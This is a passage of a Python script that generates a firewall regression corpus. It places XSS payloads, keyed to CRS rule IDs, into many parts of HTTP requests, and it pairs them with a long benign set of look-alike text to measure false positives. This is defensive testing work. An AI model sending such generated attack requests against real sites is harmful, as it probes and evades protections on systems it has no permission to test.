    "us-ascii-malformed": "941310", "html-tag-handler": "941320", "ie-filters-js-string-sinks": "941330",
    "ie-filters-js-string-assignment": "941340", "utf7-encoding": "941350", "jsfuck-hieroglyphy": "941360",
    "js-global-variable": "941370", "angularjs-csti": "941380", "crs4-js-method": "4.x",
    "crs4-js-no-parens": "4.x",
}

# --- placements -------------------------------------------------------------------------------------------
REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Client-Note",
        "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie"]
REAL_NAMES = ["q", "name", "search", "comment", "redirect", "title", "bio", "callback"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
BOUNDARY = "----fiftyfirstFormBoundary7MA4YWxkTrZu0gW"


def _enc(value: str, charset: str) -> str:
    return urllib.parse.quote(value.encode(charset), safe="")


def _headers(extra: dict[str, str] | None = None, accept: str = "application/json") -> dict[str, str]:
    return {"User-Agent": UA, "Accept": accept, **(extra or {})}


def _unsafe_header(value: str) -> bool:
    return any(c in value for c in "\r\n\0")


def _multipart(fields: list[tuple[str, str]], file: tuple[str, str, str] | None = None) -> str:
    parts = [f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n" for k, v in fields]
    if file is not None:
        field, filename, content = file
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{filename}\"\r\n"
                     f"Content-Type: image/png\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def _cdata(value: str) -> str:
    return f"<![CDATA[{value}]]>" if "]]>" not in value else escape(value)


def real_place(place: str, name: str, value: str, charset: str) -> tuple[str, dict[str, Any]]:
    """The payload in one of our routes; returns (placement actually used, request)."""
    if place.startswith("header:") and _unsafe_header(value):
        place = "query"
    if place == "multipart-filename" and any(c in value for c in "\"\r\n\0"):
        place = "multipart-field"
    if place == "query":
        return place, _get(f"/api/users?{name}={_enc(value, charset)}&page=1")
    if place == "form":
        body = f"csrf_token=t0k3n&{name}={_enc(value, charset)}"
        return place, {"method": "POST", "uri": "/admin/users/search", "body": body,
                       "headers": _headers({"Content-Type": "application/x-www-form-urlencoded"}, "text/html")}
    if place == "json":
        return place, _json("/api/users", {"email": "a@example.org", name: value})
    if place == "cookie":
        return place, {**_get("/api/users?page=1"),
                       "headers": _headers({"Cookie": f"session=abc123; prefs={_enc(value, charset)}"})}
    if place == "header:User-Agent":
        return place, {**_get("/api/users?page=1"), "headers": {"User-Agent": value, "Accept": "application/json"}}
    if place == "header:Referer":
        return place, {**_get("/api/users?page=1"), "headers": _headers({"Referer": value})}
    if place == "header:X-Client-Note":
        return place, {**_get("/api/users?page=1"), "headers": _headers({"X-Client-Note": value})}
    if place == "param-name":
        return place, _get(f"/api/users?{_enc(value, charset)}=1&page=1")
    if place == "xml":
        body = f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><user><email>a@example.org</email><{name}>" \
               f"{_cdata(value)}</{name}></user>"
        return place, {"method": "POST", "uri": "/api/users", "body": body,
                       "headers": _headers({"Content-Type": "application/xml"})}
    if place == "multipart-field":
        body = _multipart([("email", "a@example.org"), (name, value)])
        return place, {"method": "POST", "uri": "/api/users", "body": body,
                       "headers": _headers({"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})}
    if place == "multipart-filename":
        body = _multipart([("email", "a@example.org")], ("avatar", value, "PNGDATA0123456789"))
        return place, {"method": "POST", "uri": "/api/users", "body": body,
                       "headers": _headers({"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})}
    assert place == "path", place
    return place, _get("/api/users/" + _enc(value, charset))


def rs_place(place: str, path: str, name: str, value: str, charset: str) -> tuple[str, dict[str, Any]]:
    """The payload as a WAF regression suite sends it: not our route, an arbitrary parameter name."""
    if place.startswith("rs-header:") and _unsafe_header(value):
        place = "rs-query"
    if place == "rs-query":
        return place, _get(f"{path}?{name}={_enc(value, charset)}")
    if place == "rs-form":
        return place, {"method": "POST", "uri": path, "body": f"{name}={_enc(value, charset)}",
                       "headers": _headers({"Content-Type": "application/x-www-form-urlencoded"}, "*/*")}
    if place == "rs-json":
        return place, {**_json(path, {name: value}), "headers": _headers({"Content-Type": "application/json"}, "*/*")}
    if place == "rs-xml":
        return place, {"method": "POST", "uri": path, "body": f"<root><{name}>{escape(value)}</{name}></root>",
                       "headers": _headers({"Content-Type": "text/xml"}, "*/*")}
    if place == "rs-cookie":
        return place, {**_get(path), "headers": _headers({"Cookie": f"{name}={_enc(value, charset)}"}, "*/*")}
    header = place.split(":", 1)[1]
    if header == "User-Agent":
        return place, {**_get(path), "headers": {"User-Agent": value, "Accept": "*/*"}}
    return place, {**_get(path), "headers": _headers({header: value}, "*/*")}


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    g = 0
    for s, (sub, payloads) in enumerate(SUBS.items()):
        assert 10 <= len(payloads) <= 14, (sub, len(payloads))
        charset = "latin-1" if sub == "us-ascii-malformed" else "utf-8"
        for i, p in enumerate(payloads):
            g += 1
            if sub == "libinjection-xss-pl2":
                real, rs = ("path", "header:Referer")[i % 2], "rs-header:Referer"
            else:
                real, rs = REAL[g % len(REAL)], RS[(g + s) % len(RS)]
            name = REAL_NAMES[(g + s) % len(REAL_NAMES)]
            place, rec = real_place(real, name, p, charset)
            n += 1
            yield {**rec, "id": f"{NAME}-xss-{n:04d}", "category": "xss", "sub": sub, "placement": place,
                   "payload": p}
            path, rs_name = RS_PATHS[g % len(RS_PATHS)], RS_NAMES[(g + i) % len(RS_NAMES)]
            place, rec = rs_place(rs, path, rs_name, p, charset)
            n += 1
            yield {**rec, "id": f"{NAME}-xss-{n:04d}", "category": "xss", "sub": sub, "placement": place,
                   "payload": p}


# --- benign: the same words, typed innocently ------------------------------------------------------------
CHAT = [
    "the deploy script ran fine, alerts are quiet now",
    "can someone review my PR? it moves the onload logic into a useEffect hook",
    "we should stop using document.write in the legacy help pages",
    "the iframe embed for the dashboard needs a sandbox attribute",
    "CSP report: a browser extension tried to inject a script, nothing on our side",
    "javascript fatigue is real, but the new build is 40% faster",
    "I added an onerror fallback for broken avatars, shows initials instead",
    "style guide updated: use rem units, not px",
    "the expression in the spreadsheet cell is wrong, it sums column B twice",
    "the window in meeting room 3 doesn't close properly",
    "anyone remember the base URL of the staging API?",
    "moving the link preview to the server side, fewer requests",
    "meta: let's keep this channel for release talk only",
    "the object storage bill went up 12% this month",
    "we still support IE11? no, dropped it in 2022",
    "the VBScript macros in the finance workbook need to be migrated",
    "import failed because the CSV had a BOM, fixed now",
    "embed the Loom video in the onboarding doc please",
    "the applet in the old intranet no longer runs, Java plugin is gone",
    "the form action points at the old endpoint, updating it",
    "angular 17 migration: templates compile, tests green",
    "the {{name}} placeholder in the email template is not being replaced",
    "Handlebars uses {{#each}} blocks, Jinja uses {% for %}",
    "our Vue app binds with v-bind:href, and we sanitize the URLs first",
    "the constructor of the Report class takes the date range",
    "document the cookie banner behaviour in the privacy page",
    "the cookie consent script loads after the main bundle now",
    "localStorage is cleared on logout, verified in Safari",
    "the charset of the export is UTF-8 with BOM for Excel",
    "someone pasted UTF-7 text in a ticket, it showed up as +ADw- garbage",
    "use textContent instead of innerHTML when rendering user names",
    "the alert banner for maintenance goes live at 18:00",
    "please don't use eval in the config loader",
    "the marquee on the old homepage finally got removed, 1998 called",
    "the body of the newsletter is too long, cut the second section",
    "the header image is 1200x400, the footer logo is an svg",
    "the select dropdown loses focus on mobile when the keyboard opens",
    "the onclick handler fires twice because of event bubbling",
    "the textarea autofocus annoys screen reader users, removing it",
    "I set the window title to include the unread count",
    "the location service returns the city, not the street",
    "the name field accepts 80 characters now",
    "the parent company's logo goes on the footer",
    "top of the page shows the search box, then filters",
    "self-hosted fonts are faster than the CDN for us",
    "frames per second dropped when the chart animates",
    "the script tag order matters: polyfills first",
    "XSS training is mandatory this quarter, link in the LMS",
    "the pentest found no XSS, two minor header issues",
    "we escape output in templates and validate input at the API",
    "check the onboarding flow in Firefox and Chrome",
    "the vml export from the old Visio files is unreadable",
    "the data URI for the favicon is inlined by the bundler",
    "the link rel=preload for fonts helped the LCP",
    "the base image for the containers is debian slim",
    "the embed code from YouTube works in the CMS",
    "object-fit: cover fixes the stretched avatars",
    "the import of the old blog posts is 80% done",
    "the meta description is too long for Google, trimming",
    "let's use the fromCharCode trick only in the test fixtures",
    "String.fromCharCode is fine in the barcode library",
    "setTimeout of 0 is a hack, use queueMicrotask",
    "fetch failed because of CORS, adding the origin to the allowlist",
    "window.open is blocked by popup blockers unless it's a click",
    "navigator.sendBeacon is how analytics send on page unload",
    "the confirm dialog before delete is back, users asked for it",
    "prompt engineering workshop on Thursday",
    "the JSFuck talk at the meetup was hilarious",
    "it's just [] and ! and + all the way down",
    "the template literal with backticks broke the old minifier",
    "throw new Error with a message, never a bare string",
    "the find method returns the first match, filter returns all",
    "the valueOf override on Money returns cents",
    "toString on the enum prints the label",
    "the location hash is used for deep links in the docs",
    "the error page says 'something went wrong', we need better copy",
    "the style attribute on the email template is needed for Outlook",
    "background image on the hero section is 300kb, compress it",
    "the srcset for retina images is ready",
    "lowsrc is long dead, we use blurhash placeholders",
    "the table background color should follow the theme",
    "the behavior of the back button changed in the SPA router",
    "the expression builder in the rules engine supports AND/OR",
    "quarterly import/export numbers are in the finance deck",
    "the keyboard shortcut Ctrl+Shift+I opens the dev tools",
    "the x-ua-compatible meta tag can go, nobody uses IE",
    "we removed the vbscript: handler from the old intranet",
    "the xlink namespace is deprecated in SVG 2, use href",
    "the form with formaction buttons posts to two endpoints",
    "pattern attribute on the postcode input validates UK codes",
    "the entity &amp; shows up raw in the PDF export",
    "the &nbsp; in the title breaks the search index",
    "CDATA sections in the RSS feed keep the HTML intact",
    "the HTML comment <!-- TODO --> was left in the template",
    "the iframe for the map is lazy-loaded now",
    "I wrote a small script to rename the invoices",
    "the new onboarding script for sales calls is in the drive",
    "movie night: the script supervisor from the film is joining",
    "the window cleaners come on Tuesday",
    "parent-teacher meeting moved to 17:30",
    "the top floor kitchen is being renovated",
    "we hired a document controller for the construction project",
    "my name is on the rota for the alert duty next week",
]
SEARCHES = [
    "script writer", "alert settings", "onload", "window cleaning", "document management", "iframe", "style guide",
    "expression of interest", "object storage", "embed code", "base salary", "link building", "meta tags", "applet",
    "import tax", "constructor", "javascript developer", "vbscript migration", "charset utf-8", "utf-7",
    "angular developer", "{{first_name}} template", "cookie policy", "top sellers", "parent account",
    "self assessment", "frames for glasses", "location services", "name change form", "window blinds",
    "body lotion", "marquee tent hire", "blink 182 tickets", "h1 headings", "select all", "textarea resize",
    "button colours", "form builder", "table booking", "div and span", "image src", "href attribute",
    "background check", "lowsrc", "dynamic source", "behaviour policy", "vml diagrams", "xml namespace",
    "data uri", "object tag", "embed tag", "meta refresh", "base href", "link rel", "import csv",
    "fromCharCode", "document.cookie", "window.location", "innerHTML vs textContent", "eval alternatives",
    "setTimeout", "fetch api", "sendBeacon", "confirm dialog", "prompt design", "alert fatigue", "jsfuck",
    "hieroglyphy", "[object Object]", "valueOf", "toString", "throw error", "find vs filter",
    "onerror handler", "onclick event", "onmouseover", "onfocus", "autofocus", "ng-app", "ng-model",
    "constructor.prototype", "javascript: void(0)", "vbscript", "expression()", "style expression",
    "moz-binding", "CDATA", "comment tags", "entity encoding", "url encoding", "+ADw-", "charset=utf-7",
    "meta charset", "http-equiv", "x-ua-compatible", "content security policy", "sandbox attribute",
    "srcdoc", "xlink:href",
]
PROSE = [
    "Please alert the team when the script for the town hall is final",
    "The window and the door frames need painting before winter",
    "Our base salary bands and the expression of interest form are attached",
    "The document was signed by the parent company's legal team",
    "Style, location and name of the new shop are still open",
    "Embed the object in the slide, then link the source file",
    "Import duties apply to the applet kits we ship to Canada",
    "Top marks for the body of the essay; the conclusion is weak",
    "The constructor finished the top floor ahead of schedule",
    "Meta discussion: how we write alerts that people act on",
    "The marquee for the summer party is booked for Saturday",
    "She wrote the script, he directed, they both produced",
    "Please use the onboarding form, not email, for access requests",
    "The self-service portal shows your cookie preferences",
    "The frame of the bike is aluminium, the fork is carbon",
    "Expression and style matter in the cover letter",
    "Our VB Script consultant retires in June",
    "The charset question came up in the i18n review",
    "Angular and React teams share the design system",
    "The JavaScript course covers closures, promises and modules",
    "Insert the table, then set the background colour to light grey",
    "Use the select box to choose a country, then the city",
    "Click the button labelled Continue to confirm your order",
    "The link in the email goes to the help centre",
    "The base of the lamp is marble, the shade is linen",
    "Window seat or aisle? I prefer the window",
    "The document cookie jar on the desk is empty again",
    "Alert: the car park will be closed on Monday",
    "The marquee letters spell WELCOME at the entrance",
    "The expression 'break a leg' means good luck",
    "Valerie O'Brien, Script Supervisor, Top Floor Productions",
    "Object: request for leave; Location: head office",
    "Meta Platforms and Alphabet reported earnings today",
    "The import of wine from Chile rose 4% (2023)",
    "Body & Soul Yoga, 12 Frame Street, Bristol",
    "I'll confirm the venue once the prompt reply arrives",
    "The fetch quest in the game took an hour",
    "He threw the ball; the dog found it in the reeds",
    "Set a timeout of 30 seconds on the payment call",
    "Navigator, pilot and crew are ready for take-off",
    "The applet-sized picnic table fits in the boot",
    "Embedding the video took three tries",
    "Base camp is at 3,400 m; the summit at 5,100 m",
    "The link between sleep and focus is well studied",
    "Object-oriented design in Java: chapter 7",
    "Onload time dropped from 3.2 s to 1.1 s after the fix",
    "The onerror rate on the image CDN is under 0.1%",
    "The window.location of the map pin is off by 20 m",
    "Prices: 5 EUR + VAT, or 10 EUR incl. delivery",
    "Meeting notes: (1) budget; (2) hires; (3) offsite",
    "The [object Object] text appears in the invoice PDF, bug filed",
    "Please write 'N/A' if the field doesn't apply",
    "Q&A session at 3pm, room Alpha",
    "a < b and b > c, so the order holds",
    "The score was 3<5 at half time? No, 3-5",
    "I <3 the new coffee machine",
    "Use {curly} braces for the placeholders, e.g. {name}",
    "Hello {{ user.first_name }}, your order has shipped",
    "The recipe: 2 cups flour + 1 cup sugar + eggs",
    "Is it 'javascript' or 'JavaScript'? The latter",
]
URLS = [
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/alert",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/iframe",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/object",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/embed",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/base",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/meta#charset",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/link",
    "https://developer.mozilla.org/en-US/docs/Web/API/GlobalEventHandlers/onerror",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/String/fromCharCode",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://angular.io/guide/security",
    "https://docs.angularjs.org/guide/expression",
    "https://en.wikipedia.org/wiki/JSFuck",
    "https://en.wikipedia.org/wiki/UTF-7",
    "https://en.wikipedia.org/wiki/VBScript",
    "https://en.wikipedia.org/wiki/Vector_Markup_Language",
    "https://learn.microsoft.com/en-us/previous-versions/windows/internet-explorer/ie-developer/",
    "https://www.w3.org/TR/xhtml1/",
    "https://www.w3.org/1999/xlink",
    "https://example.com/onload/results?page=2",
    "https://shop.example.org/window-blinds?colour=white&size=120x90",
    "https://jobs.example.com/search?q=script+writer&location=London",
    "https://blog.example.com/2024/03/why-we-dropped-innerhtml",
    "https://cdn.example.org/js/app.min.js?v=4.2.1",
    "https://cdn.example.org/css/style.css?v=7",
    "https://docs.example.com/api/v2/objects/embed",
    "https://www.example.co.uk/base-salary-calculator",
    "https://github.com/acme/web/blob/main/src/components/Alert.tsx",
    "https://github.com/acme/web/pull/1234/files#diff-onerror",
    "https://stackoverflow.com/questions/1/what-does-javascript-void-0-mean",
    "https://news.example.net/articles/meta-earnings-q2",
    "https://maps.example.com/?location=51.5,-0.12&name=Frame+Street",
    "https://example.com/avatars/ann-onerror.png",
    "https://wiki.example.com/display/ENG/Script+Tag+Ordering",
    "https://example.com/docs/constructor-pattern.html",
    "https://app.example.com/callback?code=abc&state=top-frame",
    "https://images.example.com/body-lotion.jpg",
]
NAMES = [
    ("Alerta Scriptson", "12 Window Lane, Leeds"), ("Javier Script", "Calle Mayor 3, Madrid"),
    ("Marquee Events Ltd", "Unit 4, Frame Park, Bristol"), ("Base Camp Outdoor", "1 Summit Rd, Keswick"),
    ("Link Logistics", "Dock 7, Port of Tilbury"), ("Meta Kovač", "Ilica 22, Zagreb"),
    ("Object Studio", "Rue de la Forme 9, Lyon"), ("Embed Labs", "Karl-Marx-Allee 5, Berlin"),
    ("Style & Co.", "5th Avenue 1000, New York"), ("Onload Games", "Via Roma 10, Milano"),
    ("Ann O'Neil", "Top Flat, 3 Parent St, Dublin"), ("Self Storage Plus", "Bay 2, Import Way, Hull"),
    ("Document Shredding Ltd", "7 Cookie Close, York"), ("Applet Orchard Farm", "Apple Lane, Kent"),
    ("Vincent B. Script", "Old Town 4, Tallinn"), ("Frames & Glass", "High St 88, Bath"),
    ("Expression Dance School", "Studio 2, Leith Walk, Edinburgh"), ("Import Export GmbH", "Hafenstr. 1, Hamburg"),
    ("Body Works Gym", "Market Sq 5, Cork"), ("Charset Translation", "Piazza Dante 2, Roma"),
    ("Angular Architects", "Bahnhofstr. 10, Zürich"), ("Prompt Couriers", "Unit 9, Swift Ind. Est., Derby"),
    ("Window World", "Glass St 14, Sheffield"), ("Javascript Jane", "22 Code Row, Cambridge"),
    ("Sendbeacon Signals", "Lighthouse Rd, Plymouth"), ("Confirm Notaries", "Temple Row 3, Birmingham"),
    ("Locatión Scouts", "Gran Vía 40, Madrid"), ("Fetch Dog Walking", "Park Lane 2, London"),
    ("Eval Consulting", "Kungsgatan 9, Stockholm"), ("Mr. Throw-Pottery", "Clay St 6, Stoke"),
]
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Edg/126.0.0.0",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "PostmanRuntime/7.39.0",
    "okhttp/4.12.0",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S918B Build/TP1A.220624.014)",
    "AcmeApp/5.3.1 (iOS 17.5; iPhone15,2; Scale/3.00)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "axios/1.7.2",
    "Go-http-client/2.0",
    "Java/17.0.11",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/5.0 TV Safari",
    "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.12.388 Version/12.18",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0 Safari",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0",
    "WhatsApp/2.24.12.78 A",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17726; Pro)",
]
REFERERS = [
    "https://www.google.com/search?q=javascript+alert+box+tutorial",
    "https://www.bing.com/search?q=onload+event+vs+DOMContentLoaded",
    "https://duckduckgo.com/?q=iframe+embed+youtube",
    "https://app.example.com/admin/users?filter=window",
    "https://app.example.com/reports/expression-builder",
    "https://stackoverflow.com/questions/10/how-to-read-document-cookie",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://www.example.com/blog/base-salary-2024",
    "https://news.ycombinator.com/item?id=40000000",
    "https://t.co/AbCdEf123",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fexample.com%2F",
    "https://mail.example.com/#inbox/FMfcgzGxSlBRtKQ",
    "https://jobs.example.com/search?q=script+writer",
    "https://shop.example.org/search?q=marquee+hire",
    "https://app.example.com/settings/style?theme=dark",
    "https://app.example.com/docs/embed#object-tag",
    "https://app.example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=alert",
    "https://www.google.co.uk/",
    "android-app://com.slack/",
    "https://app.slack.com/client/T061EG9R6/C0123456789",
]
COOKIES = [
    "session=abc123; theme=dark; lang=en-GB",
    "session=abc123; prefs=%7B%22layout%22%3A%22grid%22%7D",
    "session=abc123; last_search=window%20cleaning",
    "session=abc123; tz=Europe%2FLondon; font=script",
    "session=abc123; consent=analytics%3Afalse%2Cads%3Afalse",
    "session=abc123; recent=iframe%2Cembed%2Cobject",
    "session=abc123; view=table; sort=name",
    "session=abc123; banner_dismissed=alert-2024-06",
    "session=abc123; editor=markdown; charset=utf-8",
    "session=abc123; _ga=GA1.2.1234567890.1719000000",
    "session=abc123; onboarding=step-3",
    "session=abc123; location=London",
    "session=abc123; style=compact",
    "session=abc123; base=eur",
    "session=abc123; last_page=%2Fadmin%2Fusers%2Fsearch%3Fq%3Dscript",
    "session=abc123; ab=onload_v2",
    "session=abc123; tour=done; tips=off",
    "session=abc123; template=%7B%7Bname%7D%7D",
    "session=abc123; flags=jsfuck_talk",
    "session=abc123; cart=3; currency=GBP",
]
FILES = ["script_final_v3.pdf", "window-measurements.xlsx", "onload-timings.csv", "base salary 2024.pdf",
         "alert_runbook.md", "style-guide (1).pdf", "iframe_embed_screenshot.png", "object storage costs.xlsx",
         "meta_q2_report.pdf", "document.docx", "Cookie recipes.pdf", "marquee-booking.jpg",
         "expression-of-interest.docx", "import_template.csv", "applet-orchard.png", "javascript-notes.txt",
         "vbscript_macros_backup.bas", "link-list.txt", "angular_migration_plan.pdf", "body_copy_v2.docx"]


def _xml_profile(name: str, text: str) -> dict[str, Any]:
    body = f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><user><name>{escape(name)}</name><bio>{escape(text)}</bio>" \
           "</user>"
    return {"method": "POST", "uri": "/api/users", "body": body,
            "headers": _headers({"Content-Type": "application/xml"})}


def _multipart_upload(filename: str, note: str) -> dict[str, Any]:
    body = _multipart([("email", "a@example.org"), ("note", note)], ("attachment", filename, "PDFDATA0123456789"))
    return {"method": "POST", "uri": "/api/users", "body": body,
            "headers": _headers({"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", s)]) for s in SEARCHES),
                            f"{NAME}-adminsearch", n, "form")
    n = yield from numbered((_json("/api/users", {"name": nm, "address": addr, "email": "hello@example.org"})
                             for nm, addr in NAMES), f"{NAME}-name", n, "json")
    n = yield from numbered((_get(_query("/api/users", [("name", nm), ("city", addr.rsplit(", ", 1)[-1])]))
                             for nm, addr in NAMES), f"{NAME}-lookup", n, "query")
    n = yield from numbered(({**_get("/api/users?page=1"), "headers": {"User-Agent": ua, "Accept": "*/*"}}
                             for ua in BROWSER_UAS), f"{NAME}-ua", n, "header:User-Agent")
    n = yield from numbered(({**_get("/api/users?page=1"), "headers": _headers({"Referer": r})} for r in REFERERS),
                            f"{NAME}-referer", n, "header:Referer")
    n = yield from numbered(({**_get("/api/users?page=1"), "headers": _headers({"Cookie": c})} for c in COOKIES),
                            f"{NAME}-cookie", n, "cookie")
    n = yield from numbered((_xml_profile(nm, text) for (nm, _), text in zip(NAMES, PROSE, strict=False)),
                            f"{NAME}-xml", n, "xml")
    n = yield from numbered((_multipart_upload(f, CHAT[i]) for i, f in enumerate(FILES)), f"{NAME}-upload", n,
                            "multipart")
    yield from numbered((_json("/api/users/42", {"notes": text, "display_name": "Ann"}) for text in CHAT[:60]),
                        f"{NAME}-notes", n, "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
